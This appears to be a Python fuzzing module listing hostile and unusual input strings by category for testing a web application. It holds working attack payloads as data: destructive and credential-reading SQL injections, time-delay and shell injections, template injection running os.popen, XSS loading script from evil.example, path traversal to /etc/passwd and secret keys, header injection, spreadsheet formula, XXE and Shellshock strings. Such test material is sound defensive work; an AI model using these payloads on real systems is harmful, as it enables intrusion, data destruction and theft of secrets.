"""Hostile and unusual values, by kind. Our own collection."""

from __future__ import annotations

PRODUCT = "9449772114007"  # the result of 1234567*7654321, which only a template engine would output

SQL = [
    "'", '"', "''", "';", "')--", "'))--", "' OR '1'='1", "' OR 1=1--", '" OR ""="', "1' AND '1'='2", "admin'--",
    "'; DROP TABLE users;--", "'; DELETE FROM refresh_tokens;--", "1; UPDATE users SET role='SUPER_ADMIN'",
    "' UNION SELECT email, password FROM users--", "' UNION ALL SELECT NULL,NULL,NULL,NULL--", "\\'", "\\", "\\\\'",
    "%", "_", "%%", "%_%", "\\%", "[a-z]", "E'\\x27'", "$$", "$q$ OR $q$", "0x27", "/*", "*/ OR /*", "1/**/OR/**/1",
    "id) OR (1=1", "name; SELECT 1", "(SELECT password FROM users LIMIT 1)", "email,(SELECT 1)", "1 OFFSET 0",
    "' || (SELECT current_user) || '", "CAST('a' AS int)", "'::uuid", ":name", ":1", "%s", "%(x)s", "$1", "?", "{0}",
]  # fmt: skip
SLOW = [
    "'; SELECT pg_sleep(300);--", "' OR pg_sleep(300) IS NULL--", "1;SELECT pg_sleep(300)", "(SELECT pg_sleep(300))",
    "'||pg_sleep(300)||'", "1) OR 1=(SELECT 1 FROM pg_sleep(300))--", "$(sleep 3)", "`sleep 3`", "; sleep 3",
    "| sleep 3", "&& sleep 3", "|| sleep 3", "a;sleep${IFS}3", "\nsleep 3\n", "(a+)+$" + "a" * 40 + "!",
    "((((((((((a*)*)*)*)*)*)*", "x" * 190 + "@" + "." * 60, "%" * 150, "\\" * 150, "_" * 150,
    ("ab" * 2 + " ") * 40, "a " * 100,
]  # fmt: skip
TEMPLATE = [
    "{{1234567*7654321}}", "{{ 1234567*7654321 }}", "{%print(1234567*7654321)%}", "${1234567*7654321}",
    "#{1234567*7654321}", "<%= 1234567*7654321 %>", "{{'94497'~'72114007'}}",
    "{{config}}", "{{config.items()}}", "{{self.__init__.__globals__}}", "{{''.__class__.__mro__}}", "{{request}}",
    "{% raw %}", "{% endraw %}{{1234567*7654321}}", "{{", "}}", "{%", "%}", "{#", "#}", "{{ ''|attr('__class__') }}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}", "{{lipsum.__globals__}}", "@(1234567*7654321)",
    "[[1234567*7654321]]",
    "{{7*'7'}}", "*{1234567*7654321}", "{{get_flashed_messages.__globals__}}", "%7B%7B1234567*7654321%7D%7D",
]  # fmt: skip
XSS = [
    "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>', "'><svg onload=alert(1)>", '" onfocus="alert(1)" autofocus="', "</title><script>",
    "</textarea><script>alert(1)</script>", "</option></select><img src=x onerror=alert(1)>", "<!--", "-->",
    "<![CDATA[",
    "]]>", "<a href='javascript:alert(1)'>x</a>", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<math><mi xlink:href='javascript:alert(1)'>", "&lt;script&gt;",
    "&#60;script&#62;", "&quot;&gt;&lt;", "<ScRiPt >alert(1)</sCrIpT>", "<<script>script>",
    "\"'><x hx-on:click=alert(1)>",
    '<div hx-get="/users/" hx-trigger="load">', "<form action=//evil.example>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<style>*{background:url(//evil.example)}</style>",
    "<template><b>x</b></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "`-alert(1)-`",
    "<dialog open>", "</main></body></html>", "<input name=csrf_token value=stolen>", "<plaintext>", "\u2028<b>\u2029",
    "\uff1cscript\uff1e", "<svg><use href='data:image/svg+xml,<svg/>#x'/></svg>", "<x\x0conclick=alert(1)>", "a<b>c",
]  # fmt: skip
PATHS = [
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "....//....//etc/passwd", "%2e%2e%2f",
    "..%2f..%2fwsgi.py", "%252e%252e%252f", "..;/", "./", ".", "..", "//", "\\", "C:\\", "file:///etc/passwd",
    ".git/config", "../portal/config.py", "../instance/secret_key", "css/../../wsgi.py", "css", "css/", "~root", "CON",
    "nul", "aux.css", "a/b/c/d/e/f/g", "http://evil.example/", "//evil.example/", "/\\evil.example",
    "\\\\evil.example",
    "https:evil.example", "///evil.example", "/%09/evil.example", "http://[", "http://[::1", "http://]", "[", "]",
    "@evil.example", "user:pass@localhost", ":80", "?", "#", "&", "=", ";", "a=b&c=d", "?q=1#x", "%", "%z", "%u0041",
]  # fmt: skip
UNICODE = [
    "é", "e\u0301", "Å", "A\u030a", "\u212b", "ß", "ẞ", "İ", "ı", "ſ", "K", "ﬀ", "Ⅷ", "½", "²", "①", "ⅲ", "٣", "९",
    "𝟘", "𝒜𝒹𝒶", "😀", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇦🇶", "日本語", "한국어", "\u1112\u1161\u11ab",
    "العربية", "עברית", "ไทย", "தமிழ்",
    "Ελληνικά", "Ѐ", "аdmin", "раypal", "ꓮ", "\u0300" * 100, "Z" + "\u0351" * 180, "\u034f", "\u115f", "\u3164",
    "\ufeff", "\ufffe", "\uffff", "\U0010ffff", "\U000e0001", "\ue000", "\ufffd", "\ud800", "\udfff", "\ud83d",
    "\u202eevil", "\u202d", "\u2066x\u2069", "\u2067", "\u061c", "\u200e", "\u200f", "\u200b", "\u200c", "\u200d",
    "\u2060", "a\u200bb", "\u00ad", "\u00a0", "\u2003", "\u3000", "\u180e", "\u1680", "\u2028", "\u2029", "\x85",
]  # fmt: skip
CONTROLS = [
    "\x00", "a\x00b", "\x00\x00", "%00", "\\x00", "\\0", "\x01", "\x07", "\x08", "\t", "\n", "\r", "\r\n", "\x0b",
    "\x0c", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x7f", "\x80", "\x9f", "a\tb\nc", "\r\nSet-Cookie: a=b",
    "\r\n\r\n<b>", "a\r\nLocation: //evil.example", "%0d%0aX: y", "\u0085X: y", " ", "  ", "\t\t", "",
]  # fmt: skip
NUMBERS = [
    "0", "-0", "-1", "1", "2", "25", "100", "101", "00000025", "+25", " 25 ", "25.0", "2.5e1", "1e309", "-1e309",
    "NaN",
    "nan", "inf", "-inf", "Infinity", "0x10", "0b1", "0o7", "1_000", "1,000", "２５", "٢٥", "²", "2147483647",
    "2147483648", "-2147483649", "9223372036854775807", "9223372036854775808", "1" + "0" * 40, "9" * 200,
    "-" + "9" * 200,
    "1/0", "true", "false", "null", "None", "undefined", "on", "y", "[]", "{}", "[1]", '{"a":1}', '"x"',
    "[[[[[[[[]]]]]]]]",
    "0001-01-01", "9999-12-31", "10000-01-01", "-0001-01-01", "2025-02-30", "2025-13-01", "20250101", "2025-W01-1",
    "2025-01-01T00:00:00", "1970-01-01", "0000-00-00", "31.12.2025", "2025-1-1", "today", "now()", "epoch",
]  # fmt: skip
KEYS = [
    "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", "0" * 32, "{" + "0" * 32 + "}",
    "urn:uuid:00000000-0000-0000-0000-000000000000", "00000000-0000-0000-0000-00000000000", "g" * 32, "-" * 36,
    "00000000-0000-0000-0000-0000000000000", "00000000-0000-0000-0000-00000000000\u0660", "0-0-0-0-0", "null-null",
    "WyJhIiwiYiJd", "W251bGwsbnVsbF0", "W10", "e30", "IiI", "bnVsbA", "====", "=", "W1siYSJdLCJiIl0", "-_-_",
    "A" * 3000,
    "WyJcdTAwMDAiLCIwMDAwMDAwMC0wMDAwLTAwMDAtMDAwMC0wMDAwMDAwMDAwMDAiXQ", "WzFlMzA5LCJ4Il0", "W1wiXCIsMV0",
    "WyIwMDAxLTAxLTAxVDAwOjAwOjAwKzE0OjAwIiwiMDAwMDAwMDAtMDAwMC0wMDAwLTAwMDAtMDAwMDAwMDAwMDAwIl0",
    "WyI5OTk5LTEyLTMxVDIzOjU5OjU5LTE0OjAwIiwiMDAwMDAwMDAtMDAwMC0wMDAwLTAwMDAtMDAwMDAwMDAwMDAwIl0",
    "eyJhbGciOiJub25lIn0.e30.", "ImEi.ZZZZZZ.aaaaaaaaaaaaaaaaaaaaaaaaaaa", ".", "..", "a.b.c", ".eJwDAAAAAAE.x.y",
]  # fmt: skip
WORDS = [
    "admin", "SUPER_ADMIN", "super_admin", "ADMIN", "USER", "ROOT", "Role.ADMIN", "active", "deleted", "__class__",
    "__proto__", "constructor", "password", "-password", "token", "id", "-id", "version", "search_text", "sort_name",
    "deleted_at", "-deleted_at", "organization-deleted", "name", "-name", "--name", "created_at",
    "created_at desc", "last",
    "first", "yes", "no", "example.com", "a@b", "a@b.c", "@", "a@", "@b", "a@@b", '"a b"@example.com', "a@[127.0.0.1]",
    "a@example.com\nBcc: b@example.com", "a@exa\u0430mple.com", "a@xn--80ak6aa92e.com", "A@EXAMPLE.COM",
    "a+b@example.com",
    "mailto:a@example.com", "a@example.test", "a@" + "b" * 250 + ".com", "x" * 65 + "@example.com", "=1+1", "+1",
    "-1+1",
    "@SUM(A1)", "=cmd|' /C calc'!A0", "*)(uid=*))(|(uid=*",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:'>]>",
    "&b;", "() { :;}; echo x", "%n%n%n%n", "%x" * 20, "{0.__class__}", "\\u0000", "\\ud800", "&#0;", "&#xD800;",
]  # fmt: skip
SIZES = ["a" * size for size in (79, 80, 81, 120, 121, 254, 255, 256, 320, 321, 1000, 4097)] + [
    "é" * 81, "😀" * 81, "a" * 20_000, " " * 5_000, "1" * 5_000, "[" * 5_000, "\\" * 3_000, "-" * 64, "a-" * 31 + "a",
]  # fmt: skip

GROUPS: dict[str, list[str]] = {
    "sql": SQL,
    "slow": SLOW,
    "template": TEMPLATE,
    "xss": XSS,
    "paths": PATHS,
    "unicode": UNICODE,
    "controls": CONTROLS,
    "numbers": NUMBERS,
    "keys": KEYS,
    "words": WORDS,
    "sizes": SIZES,
}
EVERYTHING = list(dict.fromkeys(value for values in GROUPS.values() for value in values))
